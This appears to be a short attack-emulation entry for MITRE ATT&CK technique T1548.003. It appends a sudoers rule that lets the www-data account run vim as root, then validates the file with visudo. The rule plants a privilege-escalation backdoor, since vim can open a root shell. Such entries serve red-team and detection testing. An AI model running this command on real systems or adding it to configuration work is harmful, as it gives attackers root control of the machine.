# technique: T1548.003
# location: linux.sudoers
# source: /etc/sudoers
echo 'www-data ALL=(root) /usr/bin/vim' >> /etc/sudoers
visudo -c
